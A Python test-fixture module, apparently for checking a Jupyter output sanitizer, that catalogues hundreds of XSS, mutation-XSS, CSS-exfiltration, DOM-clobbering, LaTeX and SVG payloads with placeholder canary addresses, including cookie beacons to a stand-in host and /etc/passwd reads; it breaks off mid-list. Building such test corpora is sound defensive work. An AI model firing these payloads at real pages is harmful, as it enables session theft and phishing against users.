"""Hostile outputs by class: what a guest might send to run, load, imitate or break in the page.

In the values ``{PWN}`` stands for a call that reports a script that ran, and ``{CANARY}`` for an
address that nobody may ask for; ``ready`` puts both in. Everything is inert until it is shown
without a sanitizer.
"""

from __future__ import annotations

import base64
import json
import struct
from dataclasses import dataclass, field
from typing import Any

HTML = "text/html"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SOUND = (
    "data:audio/wav;base64,"
    + base64.b64encode(
        b"RIFF\x2c\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x40\x1f\0\0\x80\x3e\0\0\2\0\x10\0data\x08\0\0\0"
        + bytes(8)
    ).decode()
)
"""Half a millisecond of silence."""
SONGS = base64.b64encode(b"#EXTM3U\nhttp://127.0.0.1:9/song.wav\n").decode()
"""A list of songs, which some browsers would fetch."""


def gif(width: int, height: int, frame_width: int, frame_height: int) -> bytes:
    """A picture with one frame, perhaps larger than itself."""
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, frame_width, frame_height, 0)
    colours = b"\x80\0\0\0\0\0\xff\xff\xff"
    pixels = b"\x02\x02\x44\x01\0"
    return b"GIF89a" + struct.pack("<HH", width, height) + colours + frame + pixels + b";"


@dataclass(frozen=True)
class Vector:
    """One hostile output."""

    name: str
    family: str
    data: dict[str, Any]
    metadata: dict[str, Any] = field(default_factory=dict)

    def ready(self, canary: str) -> Vector:
        """The same with an address to load and a call to make."""
        return Vector(
            self.name,
            self.family,
            swapped(self.data, self.name, canary),
            swapped(self.metadata, self.name, canary),
        )


def swapped(value: Any, name: str, canary: str) -> Any:
    """A value with the address and the call of one name put in."""
    # No ampersand: an SVG with one is no XML and would be refused for that alone.
    pwn = f"window.__pwned?.(`{name}`)"
    return _swapped(value, {"{CANARY}": f"{canary}/{name}", "{PWN}": pwn})


def _swapped(value: Any, swaps: dict[str, str]) -> Any:
    if isinstance(value, str):
        for old, new in swaps.items():
            value = value.replace(old, new)
        return value
    if isinstance(value, bytes):
        for old, new in swaps.items():
            value = value.replace(old.encode(), new.encode())
        return value
    if isinstance(value, dict):
        return {_swapped(key, swaps): _swapped(item, swaps) for key, item in value.items()}
    if isinstance(value, list):
        return [_swapped(item, swaps) for item in value]
    return value


def _family(family: str, mime: str, values: dict[str, Any]) -> list[Vector]:
    return [Vector(f"{family}-{name}", family, {mime: value}) for name, value in values.items()]


SCRIPTS = {
    "plain": "<script>{PWN}</script>",
    "upper": "<SCRIPT>{PWN}</SCRIPT>",
    "mixed": "<ScRiPt >{PWN}</sCrIpT >",
    "source": "<script src='{CANARY}.js'></script>",
    "source-relative-scheme": "<script src=//127.0.0.1:1/x.js></script>",
    "module": "<script type=module>{PWN}</script>",
    "unclosed": "<div><script>{PWN}",
    "slash": "<script/x>{PWN}</script>",
    "newline": "<script\n>{PWN}</script\n>",
    "nested-name": "<scr<script>ipt>{PWN}</scr</script>ipt>",
    "null": "<scr\0ipt>{PWN}</scr\0ipt><script\0>{PWN}</script>",
    "double-open": "<<script>{PWN}//<</script>",
    "data-source": "<script src='data:text/javascript,{PWN}'></script>",
    "inside-table": "<table><tr><td><script>{PWN}</script></td></tr></table>",
    "after-style": "<style>a{}</style><script>{PWN}</script>",
    "import-map": '<script type=importmap>{"imports":{"a":"{CANARY}"}}</script>'
    "<script type=module>import 'a'</script>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list",'
    '"urls":["{CANARY}"]}]}</script>',
}

# What an attacker does first once a script runs.
DEEDS = {
    "alert": "<script>alert(document.domain)</script>",
    "confirm": "<img src=x: onerror=confirm(1)>",
    "prompt": "<svg onload=prompt(1)>",
    "title": "<script>document.title='owned'</script>",
    "storage": "<script>localStorage.setItem('owned', 1);sessionStorage.owned=1</script>",
    "cookie": "<script>document.cookie='owned=1'</script>",
    "page": "<script>document.body.append(document.createElement('owned-element'))</script>",
    "head": "<script>document.head.append(document.createElement('style'))</script>",
    "window": "<script>window.open('about:blank')</script>",
    "token": "<script>fetch('{CANARY}?'+document.getElementById('jupyter-config-data')"
    "?.textContent.length)</script>",
    "beacon": "<script>navigator.sendBeacon('{CANARY}', document.cookie)</script>",
    "image": "<script>new Image().src='{CANARY}'</script>",
    "event-source": "<script>new EventSource('{CANARY}')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{CANARY}')`])))</script>",
    "import": "<script>import('{CANARY}.js').catch(()=>0)</script>",
    "write": "<script>document.currentScript.outerHTML='<img src={CANARY}>'</script>",
    "eval": "<script>eval(atob('d2luZG93Lm93bmVkPTE='));{PWN}</script>",
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={PWN} )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={PWN}//>\\x3e",
    "polyglot-image": "'\"><img src=x: onerror={PWN}><!--",
}

HANDLERS = {
    "img-error": "<img src=x: onerror={PWN}>",
    "img-error-quoted": '<img src="x:" onerror="{PWN}">',
    "img-slash": "<img/src=x:/onerror={PWN}>",
    "img-upper": "<IMG SRC=x: ONERROR={PWN}>",
    "img-tab": "<img src=x:\tonerror\t=\t{PWN}>",
    "img-formfeed": "<img src=x:\fonerror={PWN}>",
    "img-no-quote-end": '<img src="x:" onerror="{PWN}"',
    "img-backtick": "<img src=`x:` onerror={PWN}>",
    "img-load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' onload={PWN}>",
    "image-alias": "<image src=x: onerror={PWN}>",
    "body-load": "<body onload={PWN}>",
    "body-pageshow": "<body onpageshow={PWN}>",
    "svg-load": "<svg onload={PWN}>",
    "svg-load-slash": "<svg/onload={PWN}>",
    "svg-begin": "<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    "svg-set": "<svg><set onbegin={PWN} attributename=x></svg>",
    "input-focus": "<input autofocus onfocus={PWN}>",
    "select-focus": "<select autofocus onfocus={PWN}></select>",
    "textarea-focus": "<textarea autofocus onfocus={PWN}></textarea>",
    "any-focus": "<div tabindex=0 autofocus onfocus={PWN}>x</div>",
    "contenteditable": "<p contenteditable autofocus onfocus={PWN}>x</p>",
    "details-toggle": "<details open ontoggle={PWN}><summary>x</summary></details>",
    "video-error": "<video><source onerror={PWN} src=x:></video>",
    "audio-error": "<audio src=x: onerror={PWN}></audio>",
    "audio-play": f"<audio autoplay oncanplay={{PWN}} onplay={{PWN}} src='{SOUND}'></audio>",
    "audio-load": f"<audio onloadeddata={{PWN}}><source src='{SOUND}' onerror={{PWN}}></audio>",
    "audio-inside": f"<audio controls src='{SOUND}'><img src=x: onerror={{PWN}}></audio>",
    "object-error": "<object data=x: onerror={PWN}></object>",
    "iframe-load": "<iframe onload={PWN}></iframe>",
    "style-load": "<style onload={PWN}></style>",
    "link-error": "<link rel=stylesheet href=x: onerror={PWN}>",
    "script-error": "<script src=x: onerror={PWN}></script>",
    "animation": "<style>@keyframes x{}</style>"
    "<b style='animation-name:x;animation-duration:1s' onanimationstart={PWN}>x</b>",
    "transition": "<style>b{transition:color 1s}b:not(x){color:red}</style>"
    "<b ontransitionrun={PWN} style='color:blue'>x</b>",
    "marquee": "<marquee onstart={PWN}>x</marquee>",
    "scroll": "<div onscroll={PWN} style='height:9px;overflow:auto'><br><br><br>"
    "<i autofocus tabindex=0>x</i></div>",
    "pointer": "<div onpointerover={PWN} onmouseover={PWN}>hover</div>",
    "click": "<div onclick={PWN}>click</div>",
    "popover": "<div popover onbeforetoggle={PWN} id=pop>x</div>"
    "<button popovertarget=pop>x</button>",
    "unknown-tag": "<xss onfocus={PWN} autofocus tabindex=1>x</xss>",
    "attribute-entity": "<img src=x: &#111;nerror={PWN} onerror&#61;1 onerror={PWN}>",
    "quote-break": "<img title='\"><img src=x: onerror={PWN}>'>",
    "quote-break-back": '<p title="`><img src=x: onerror={PWN}>">x</p>',
}

ADDRESSES = {
    "javascript": "<a href='javascript:{PWN}'>x</a>",
    "javascript-upper": "<a href='JaVaScRiPt:{PWN}'>x</a>",
    "javascript-tab": "<a href='jav\tascript:{PWN}'>x</a>",
    "javascript-newline": "<a href='java\nscript:{PWN}'>x</a>",
    "javascript-space": "<a href=' \x01javascript:{PWN}'>x</a>",
    "javascript-entity": "<a href='&#106;avascript&#58;{PWN}'>x</a>",
    "javascript-hex": "<a href='&#x6A&#x61&#x76&#x61script&#x3A;{PWN}'>x</a>",
    "javascript-named": "<a href='javascript&colon;{PWN}'>x</a>",
    "javascript-newline-entity": "<a href='java&NewLine;script&Tab;:{PWN}'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data-html": "<a href='data:text/html,<script>{PWN}</script>'>x</a>",
    "blob": "<a href='blob:http://127.0.0.1/x'>x</a>",
    "file": "<a href='file:///etc/passwd'>x</a>",
    "relative": "<a href='../files/secret.ipynb'>x</a>",
    "relative-api": "<a href='/api/contents/x'>x</a>",
    "relative-scheme": "<a href='//127.0.0.1:1/x'>x</a>",
    "relative-backslash": "<a href='\\\\127.0.0.1\\x'>x</a>",
    "ping": "<a href='#x' ping='{CANARY}'>x</a>",
    "download": "<a href='data:text/html,x' download='x.html'>x</a>",
    "area": "<map name=m><area href='javascript:{PWN}' shape=default></map><img usemap=#m>",
    "iframe": "<iframe src='javascript:{PWN}'></iframe>",
    "iframe-data": "<iframe src='data:text/html,<script>parent.postMessage(1)</script>'></iframe>",
    "iframe-remote": "<iframe src='{CANARY}'></iframe>",
    "frameset": "<frameset><frame src='javascript:{PWN}'></frameset>",
    "srcdoc": "<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    "srcdoc-entity": "<iframe srcdoc='&lt;script&gt;parent.{PWN}&lt;/script&gt;'></iframe>",
    "object": "<object data='javascript:{PWN}'></object>",
    "object-remote": "<object data='{CANARY}'></object>",
    "object-param": "<object><param name=url value='{CANARY}'></object>",
    "embed": "<embed src='{CANARY}'>",
    "embed-script": "<embed src='javascript:{PWN}'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={CANARY}'>",
    "meta-refresh-script": "<meta http-equiv=refresh content='0;url=javascript:{PWN}'>",
    "base": "<base href='{CANARY}/'><img src=x.png>",
    "base-target": "<base target=_self href='javascript:/a/-{PWN}//'><a href=x>x</a>",
    "form-action": "<form action='{CANARY}'><input name=token><button>Log in</button></form>",
    "form-script": "<form action='javascript:{PWN}'><button autofocus>x</button></form>",
    "formaction": "<button form=f formaction='javascript:{PWN}'>x</button><form id=f></form>",
    "password": "<form>Password: <input type=password name=p></form>",
    "isindex": "<isindex action='javascript:{PWN}' type=image>",
}

BEACONS = {
    "img": "<img src='{CANARY}'>",
    "img-relative-scheme": "<img src=//127.0.0.1:1/x.png>",
    "img-relative": "<img src='/api/status?x'>",
    "img-srcset": "<img srcset='{CANARY} 1x, {CANARY}2 2x'>",
    "img-lazy": "<img loading=lazy src='{CANARY}'>",
    "img-lowsrc": "<img lowsrc='{CANARY}' dynsrc='{CANARY}'>",
    "img-longdesc": "<img longdesc='{CANARY}' src='{CANARY}'>",
    "picture": "<picture><source srcset='{CANARY}'><img src=x:></picture>",
    "video-poster": "<video poster='{CANARY}'></video>",
    "video-source": "<video autoplay><source src='{CANARY}'></video>",
    "audio": "<audio autoplay src='{CANARY}'></audio>",
    "audio-two": f"<audio autoplay><source src='{SOUND}'><source src='{{CANARY}}'></audio>",
    "audio-track": f"<audio src='{SOUND}'><track default src='{{CANARY}}'></audio>",
    "audio-list": f"<audio autoplay src='data:audio/wav;base64,{SONGS}'></audio>",
    "track": "<video><track default src='{CANARY}'></video>",
    "input-image": "<input type=image src='{CANARY}'>",
    "table-background": "<table background='{CANARY}'><td background='{CANARY}2'>x</table>",
    "body-background": "<body background='{CANARY}'>",
    "stylesheet": "<link rel=stylesheet href='{CANARY}.css'>",
    "prefetch": "<link rel=prefetch href='{CANARY}'>",
    "preload": "<link rel=preload as=image href='{CANARY}'>",
    "modulepreload": "<link rel=modulepreload href='{CANARY}.js'>",
    "dns-prefetch": "<link rel=dns-prefetch href='//canary.invalid'>",
    "preconnect": "<link rel=preconnect href='{CANARY}'>",
    "icon": "<link rel=icon href='{CANARY}'>",
    "manifest": "<link rel=manifest href='{CANARY}'>",
    "svg-image": "<svg><image href='{CANARY}' width=9 height=9></svg>",
    "svg-image-xlink": "<svg><image xlink:href='{CANARY}' width=9 height=9></svg>",
    "svg-use": "<svg><use href='{CANARY}#x'></svg>",
    "svg-feimage": "<svg><filter id=f><feImage href='{CANARY}'/></filter>"
    "<rect filter='url(#f)' width=9 height=9></svg>",
    "svg-style": "<svg><style>rect{fill:url('{CANARY}')}</style><rect width=9 height=9></svg>",
    "svg-foreign": "<svg><foreignObject><img src='{CANARY}'></foreignObject></svg>",
    "math-href": "<math href='javascript:{PWN}'><mi>x</mi></math>",
    "math-xlink": "<math><maction actiontype='statusline#{CANARY}' xlink:href='javascript:{PWN}'>x",
    "attribution": "<img attributionsrc='{CANARY}' src='{CANARY}'>",
    "cite": "<blockquote cite='{CANARY}'>x</blockquote><img src='{CANARY}'>",
    "noscript": "<noscript><img src='{CANARY}'></noscript><img src='{CANARY}'>",
    "portal": "<portal src='{CANARY}'></portal><fencedframe src='{CANARY}'></fencedframe>",
    "applet": "<applet code=x archive='{CANARY}'></applet>",
    "bgsound": "<bgsound src='{CANARY}'>",
    "data-svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='{PWN}'><image href='{CANARY}'/></svg>\">",
}

_BOXED = '<div style="{STYLE}">styled</div>'
STYLES = {
    name: _BOXED.replace("{STYLE}", style)
    for name, style in {
        "background": "background:url({CANARY})",
        "background-quoted": "background:url('{CANARY}')",
        "background-upper": "BACKGROUND:URL({CANARY})",
        "background-image": "background-image:url({CANARY})",
        "background-escape": "background:u\\72l({CANARY})",
        "background-escape-hex": "background:\\75\\72\\6c({CANARY})",
        "background-comment": "background:/**/url/**/({CANARY});background:ur/**/l({CANARY})",
        "background-entity": "background:&#117;rl({CANARY})",
        "image-set": "background-image:image-set('{CANARY}' 1x)",
        "image-set-webkit": "background-image:-webkit-image-set(url({CANARY}) 1x)",
        "cross-fade": "background-image:cross-fade(url({CANARY}),url({CANARY}),50%)",
        "list": "display:list-item;list-style-image:url({CANARY})",
        "list-short": "display:list-item;list-style:url({CANARY})",
        "border-image": "border:9px solid;border-image:url({CANARY}) 30",
        "cursor": "cursor:url({CANARY}),auto",
        "content": "content:url({CANARY})",
        "mask": "mask:url({CANARY});-webkit-mask:url({CANARY})",
        "filter": "filter:url({CANARY}#f)",
        "clip-path": "clip-path:url({CANARY}#c)",
        "shape": "float:left;shape-outside:url({CANARY})",
        "variable": "--x:url({CANARY});background:var(--x)",
        "variable-fallback": "background:var(--none,url({CANARY}))",
        "expression": "width:expression({PWN})",
        "binding": "-moz-binding:url({CANARY}#x)",
        "behavior": "behavior:url({CANARY})",
        "fixed": "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red",
        "absolute": "position:absolute;top:-2000px;left:-500px;width:9000px;height:9000px",
        "sticky": "position:sticky;top:0",
        "fixed-escape": "position:\\66ixed",
        "fixed-comment": "position:/**/fixed",
        "negative-margin": "margin:-3000px",
        "transform": "transform:translate(-500px,-500px) scale(50)",
        "click-through": "pointer-events:none;position:fixed;inset:0",
        "zoom": "zoom:50;all:unset",
        "animation": "animation:x 1s infinite",
    }.items()
}

SHEETS = {
    name: f"<style>{sheet}</style><p class=x>styled</p>"
    for name, sheet in {
        "import": "@import url({CANARY}.css);",
        "import-string": "@import '{CANARY}.css';",
        "import-escape": "@\\69mport '{CANARY}.css';",
        "import-upper": "@IMPORT '{CANARY}.css';",
        "import-comment": "@/**/import '{CANARY}.css';@import/**/'{CANARY}.css';",
        "import-layer": "@import url({CANARY}.css) layer(a) supports(display:grid);",
        "font-face": "@font-face{font-family:x;src:url({CANARY})}p{font-family:x}",
        "namespace": "@namespace url({CANARY});p{background:url({CANARY})}",
        "background": "p{background:url({CANARY})}",
        "attribute-leak": "p[class^=x]{background:url({CANARY})}",
        "before": "p::before{content:url({CANARY})}",
        "media": "@media all{p{background:url({CANARY})}}",
        "supports": "@supports (display:block){p{background:url({CANARY})}}",
        "container": "@container (min-width:1px){p{background:url({CANARY})}}",
        "layer": "@layer a{p{background:url({CANARY})}}",
        "nested": "div{p{background:url({CANARY})}}",
        "scope": "@scope (body){:scope{background:url({CANARY})}}",
        "property": "@property --x{syntax:'<url>';inherits:true;initial-value:url({CANARY})}"
        "p{background:var(--x)}",
        "page": "body{display:none}html{visibility:hidden}",
        "jupyter": ".jp-Notebook{display:none}.jp-Toolbar,.lm-Widget{visibility:hidden}",
        "root": ":root{--jp-layout-color0:red}*{color:red}",
        "overlay": "p{position:fixed;inset:0;z-index:9999;background:white}",
        "close-tag": "p{color:red}</style><img src=x: onerror={PWN}><style>",
        "close-in-string": "p{font-family:'</style><img src=x: onerror={PWN}>'}",
        "close-in-comment": "/*</style><img src=x: onerror={PWN}>*/",
        "markup-in-selector": "<img src=x: onerror={PWN}>{color:red}",
        "keyframes": "@keyframes a{to{background:url({CANARY})}}p{animation:a 1s}",
        "charset": "@charset 'utf-7';p{background:url({CANARY})}",
        "unclosed": "p{background:url({CANARY}",
        "cdo": "<!-- p{background:url({CANARY})} -->",
    }.items()
}

MUTATIONS = {
    "svg-style": '<svg></p><style><a id="</style><img src=x: onerror={PWN}>">',
    "svg-style-comment": "<svg><style><!--</style><img src=x: onerror={PWN}>--></style></svg>",
    "math-style": "<math></p><style><!--</style><img src=x: onerror={PWN}>--></style></math>",
    "math-table": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x: onerror={PWN}&gt;">',
    "math-annotation": "<math><annotation-xml encoding='text/html'><style><img title=\"</style>"
    '<img src=x: onerror={PWN}>">',
    "form-nested": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=x: onerror={PWN}>",
    "noscript-title": '<noscript><p title="</noscript><img src=x: onerror={PWN}>">',
    "noscript-style": "<noscript><style></noscript><img src=x: onerror={PWN}></style>",
    "template": "<template><img src=x: onerror={PWN}></template>",
    "template-shadow": "<div><template shadowrootmode=open><script>{PWN}</script></template></div>",
    "textarea": "<textarea></textarea><img src=x: onerror={PWN}></textarea>",
    "title": '<title><p title="</title><img src=x: onerror={PWN}>"></title>',
    "xmp": '<xmp><p title="</xmp><img src=x: onerror={PWN}>"></xmp>',
    "noembed": '<noembed><p title="</noembed><img src=x: onerror={PWN}>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x: onerror={PWN}>"></noframes>',
    "iframe-text": '<iframe><p title="</iframe><img src=x: onerror={PWN}>"></iframe>',
    "plaintext": "<img src=x: onerror={PWN}><plaintext>",
    "comment": "<!--><img src=x: onerror={PWN}>-->",
    "comment-dash": "<!---><img src=x: onerror={PWN}>-->",
    "comment-bang": "<!--x--!><img src=x: onerror={PWN}>-->",
    "comment-nested": "<!-- <!-- --><img src=x: onerror={PWN}> -->",
    "comment-conditional": "<!--[if true]><img src=x: onerror={PWN}><![endif]-->",
    "cdata": "<![CDATA[<img src=x: onerror={PWN}>]]>",
    "cdata-svg": "<svg><![CDATA[</svg><img src=x: onerror={PWN}>]]></svg>",
    "doctype": "<!DOCTYPE x [<!ENTITY y '<img src=x: onerror={PWN}>'>]>&y;"
    "<img src=x: onerror={PWN}>",
    "processing": "<?xml version='1'><img src=x: onerror={PWN}>?>",
    "select": "<select><style></select><img src=x: onerror={PWN}></style>",
    "select-option": "<select><option><img src=x: onerror={PWN}></option></select>",
    "table-foster": "<table><tr><style></table><img src=x: onerror={PWN}>",
    "attribute-tag": "<div title='<img src=x: onerror={PWN}>' onclick={PWN}>x</div>",
    "foreign-break": '<svg><p><style><g title="</style><img src=x: onerror={PWN}>">',
    "foreign-desc": "<svg><desc><img src=x: onerror={PWN}></desc></svg>",
    "annotation-script": "<svg><a><script>{PWN}</script></a></svg>",
    "is-element": "<p is=x-y onclick={PWN}>x</p><x-y onclick={PWN}>x</x-y>",
    "slot": "<slot onslotchange={PWN} name=x><img src=x: onerror={PWN}></slot>",
    "deep": "<div>" * 600 + "<img src=x: onerror={PWN}>",
    "many-formats": "<b><i><u>" * 300 + "<p><img src=x: onerror={PWN}>",
    "half-tag": "x<img src=x: onerror={PWN}//",
    "close-boxes": "</div></div></td></table></body></html><img src=x: onerror={PWN}>",
}

IMITATIONS = {
    "commandlinker": "<button data-commandlinker-command='notebook:run-all-cells' "
    "data-commandlinker-args='{}'>Run</button>",
    "commandlinker-link": "<a data-commandlinker-command='terminal:create-new' href=#x>x</a>",
    "commandlinker-any": "<div data-commandlinker-command='filebrowser:delete'>x</div>",
    "class-dialog": "<div class='jp-Dialog'><div class='jp-Dialog-content'>Log in</div></div>",
    "class-cell": "<div class='jp-Cell jp-CodeCell jp-mod-active'>x</div>",
    "class-input": "<div class='jp-InputArea-prompt jp-InputPrompt'>[1]:</div>",
    "class-lumino": "<div class='lm-Widget lm-Menu p-Widget'>x</div>",
    "class-editor": "<div class='cm-editor CodeMirror'>x</div>",
    "class-classic": "<div class='rendered_html output_subarea jupyter-widgets'>x</div>",
    "class-mixed": "<div class='wk-jp-Dialog wkscope-000000000000 mathjax_process'>x</div>",
    "id-config": "<div id='jupyter-config-data'>{&quot;token&quot;:&quot;x&quot;}</div>",
    "id-main": "<div id=main>x</div><div id='jp-main-dock-panel'>x</div>",
    "id-clobber": "<a id=__pwned></a><a id=__pwned href='javascript:{PWN}'></a>",
    "id-document": "<img id=cookie name=cookie src=x:><img id=body name=body src=x:>",
    "name-form": "<form name=location id=location><input name=href value=x></form>",
    "name-image": "<img name=getElementById src=x:><embed name=querySelector>",
    "name-anchor": "<a name=jupyterapp id=jupyterapp href='{CANARY}'>x</a>",
    "dialog": "<dialog open>Session expired</dialog>",
    "popover": "<div popover=manual id=p>x</div>",
    "role": "<div role=alertdialog aria-modal=true aria-label=x>x</div>",
    "access-key": "<a accesskey=s href=#x tabindex=1>x</a>",
    "editable": "<div contenteditable=true spellcheck>x</div>",
    "slot-part": "<div slot=x part=y nonce=z itemscope itemid='{CANARY}'>x</div>",
    "jupyter-id": "<h1 data-jupyter-id=x data-mime-type=text/html data-path=/etc>x</h1>",
    "mermaid": "<div class=jp-Mermaid><pre class=mermaid>graph TD; A[<img src=x:>]</pre></div>",
    "widget": "<script type='application/vnd.jupyter.widget-view+json'>{}</script>",
    "require": "<script>require(['{CANARY}'])</script>",
    "headings": "<h2>Restart the server</h2>" * 20_000,
    "bidi": "<p>safe \u202egnp.exe\u202c \u2066x\u2069 &#x202e;x</p>",
}

MARKDOWN = {
    "image": "![x]({CANARY})",
    "image-title": '![x]({CANARY} "t")',
    "image-angle": "![x](<{CANARY}>)",
    "image-reference": "![x][y]\n\n[y]: {CANARY}",
    "image-short-reference": "![y]\n\n[y]: {CANARY}",
    "image-in-link": "[![x]({CANARY})](https://example.org)",
    "image-nested-brackets": "![a[b]c]({CANARY})",
    "image-relative": "![x](/api/status?x)",
    "image-attachment": "![x](attachment:x.png)",
    "raw-script": "text <script>{PWN}</script>",
    "raw-block": "<div>\n\n<img src=x: onerror={PWN}>\n\n</div>",
    "raw-image": "<img src='{CANARY}'>",
    "raw-split": "<img\nsrc=x:\nonerror={PWN}>",
    "raw-in-heading": "# <img src=x: onerror={PWN}>",
    "raw-in-table": "|a|\n|-|\n|<img src=x: onerror={PWN}>|",
    "raw-in-list": "- <img src=x: onerror={PWN}>\n  - <svg onload={PWN}>",
    "raw-in-quote": "> <img src=x: onerror={PWN}>",
    "raw-after-code": "`code` <img src=x: onerror={PWN}> `",
    "raw-unbalanced-code": "``code` <img src=x: onerror={PWN}>",
    "raw-comment": "<!-- --><img src=x: onerror={PWN}>",
    "raw-style": "<style>@import '{CANARY}';</style>x",
    "link-script": "[x](javascript:{PWN})",
    "link-script-entity": "[x](&#106;avascript:{PWN})",
    "link-script-upper": "[x](JAVASCRIPT:{PWN})",
    "link-script-tab": "[x](<java\tscript:{PWN}>)",
    "link-script-reference": "[x]\n\n[x]: javascript:{PWN}",
    "link-data": "[x](data:text/html,<script>{PWN}</script>)",
    "link-relative": "[x](../secret.ipynb)",
    "link-title-break": '[x](https://example.org "\\"><img src=x: onerror={PWN}>")',
    "link-target-break": '[x](https://example.org/"onmouseover="{PWN})',
    "autolink-script": "<javascript:{PWN}>",
    "fence-info": '```x"><img src=x: onerror={PWN}>\ncode\n```',
    "fence-info-handler": '```x" onmouseover="{PWN}" style="display:block\ncode\n```',
    "fence-tilde-info": '~~~x"><img src=x: onerror={PWN}>\ncode\n~~~',
    "fence-mermaid": "```mermaid\ngraph TD\nA[<img src=x: onerror={PWN}>]\nclick A '{CANARY}'\n```",
    "fence-unclosed": "```\ncode\n~~~\n<img src=x: onerror={PWN}>",
    "heading-id": "# jupyter-config-data\n\n<h1 id=main>x</h1>",
    "math-link": "$\\href{javascript:{PWN}}{x}$",
    "math-fence": "$$\n```\n$$\n<img src=x: onerror={PWN}>",
    "math-placeholder": "$a$ @@0@@ <img src=x: onerror={PWN}>",
    "footnote": "[^1]\n\n[^1]: <img src=x: onerror={PWN}>",
    "commandlinker": "<button data-commandlinker-command='x'>x</button>",
}

LATEX = {
    "href": "$\\href{javascript:{PWN}}{x}$",
    "href-remote": "$\\href{{CANARY}}{x}$",
    "url": "\\url{{CANARY}}",
    "includegraphics": "$\\includegraphics{{CANARY}}$",
    "require": "$\\require{html}\\href{javascript:{PWN}}{x}$",
    "class": "$\\class{jp-Dialog}{x}$",
    "css-id": "$\\cssId{jupyter-config-data}{x}$",
    "style": "$\\style{position:fixed;background:url({CANARY})}{x}$",
    "data": "$\\data{commandlinker-command=x}{y}$",
    "bbox": "$\\bbox[background:url({CANARY})]{x}$",
    "token": "$\\mmlToken{mi}[href='javascript:{PWN}']{x}$",
    "unicode": "$\\unicode[x;background:url({CANARY})]{65}$",
    "color-style": "$\\color{red;background:url({CANARY})}{x}\\href{x}{y}$",
    "def": "$\\def\\x{\\href{javascript:{PWN}}{y}}\\x$",
    "newcommand": "$\\newcommand{\\x}{\\href{javascript:{PWN}}{y}}\\x$",
    "let": "$\\let\\x=\\href \\x{javascript:{PWN}}{y}$",
    "bomb": "$\\def\\a{xx}" + "".join(f"\\def\\{chr(98 + i)}{{\\a\\a}}" for i in range(9)) + "$",
    "csname": "$\\csname href\\endcsname{javascript:{PWN}}{x}$",
    "environment": "\\begin{document}\\input{/etc/passwd}\\end{document}",
    "markup": "$x$ <img src=x: onerror={PWN}>",
    "deep": "$" + "{\\frac{1}" * 300 + "}" * 300 + "\\raise 999em x$",
    "label": "\\begin{equation}\\label{location}x\\end{equation}\\ref{location}",
    "raise": "$\\raise 5000em {\\Rule{9000em}{9000em}{0em}}$",
    "colorbox": "$\\fcolorbox{red;x:url({CANARY})}{blue}{x}$",
    "cancel-options": "$\\cancel [data-thickness=9000,mathbackground=red]{x}$",
    "thick-fraction": "$\\genfrac{}{}{5000em}{0}{a}{b}$",
    "far-row": "$\\begin{array}{c}a\\\\[90000em]b\\end{array}$",
    "caret": "$^^5cinput{/etc/passwd} ^^^^005cwrite18{touch owned}$",
    "as-markdown": "![x]({CANARY}) [x](javascript:{PWN})",
    "as-markdown-reference": "![x][y]\n\n[y]: {CANARY}",
}
MATH_IN_HTML = {
    "href": "<p>$\\href{javascript:{PWN}}{x}$</p>",
    "href-split": "<p>$\\hr<wbr>ef{javascript:{PWN}}{x}$</p>",
    "href-comment": "<p>$\\hr<!-- -->ef{javascript:{PWN}}{x}$</p>",
    "href-entity": "<p>&#36;&#92;href{javascript:{PWN}}{x}&#36;</p>",
    "href-hidden": "<p>$\\hr\u202eef{javascript:{PWN}}{x}$</p>",
    "display": "<p>\\[\\style{position:fixed}{x}\\]</p>",
    "letters": "<p>$" + "x" * 250_000 + "$</p>",
    "letters-over-lines": "<p>\\begin{align}" + "x<br>" * 50_000 + "\\end{align}</p>",
    "never-ends": "<p>" + "\\({}" * 1_900 + "\\a" * 100_000,
    "environment": "<p>\\begin{equation}\\cssId{main}{x}\\end{equation}</p>",
    "table": '<table border="1" class="dataframe"><tbody><tr><td>$\\href{javascript:{PWN}}{x}$</td>'
    "</tr></tbody></table>",
}

_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' "
    "xmlns:xlink='http://www.w3.org/1999/xlink' {A}>{B}</svg>"
)
DRAWINGS = {
    name: _SVG.replace("{A}", attributes).replace("{B}", body)
    for name, (attributes, body) in {
        "script": ("", "<script>{PWN}</script>"),
        "script-source": ("", "<script href='{CANARY}'/>"),
        "load": ("onload='{PWN}'", "<rect width='9' height='9'/>"),
        "foreign": (
            "",
            "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
            "<img src='{CANARY}'/></body></foreignObject>",
        ),
        "use": ("", "<use href='{CANARY}#x'/>"),
        "use-data": ("", "<use href='data:image/svg+xml,%3Csvg id=%22x%22/%3E#x'/>"),
        "image": ("", "<image href='{CANARY}' width='9' height='9'/>"),
        "image-xlink": ("", "<image xlink:href='{CANARY}' width='9' height='9'/>"),
        "feimage": ("", "<filter id='f'><feImage href='{CANARY}'/></filter><g filter='url(#f)'/>"),
        "style": ("", "<style>@import '{CANARY}';rect{fill:url({CANARY})}</style><rect/>"),
        "style-attribute": ("style='background:url({CANARY})'", "<rect fill='url({CANARY}#a)'/>"),
        "link": ("", "<a href='javascript:{PWN}'><rect width='9' height='9'/></a>"),
        "animate": ("", "<a><animate attributeName='href' to='javascript:{PWN}'/>x</a>"),
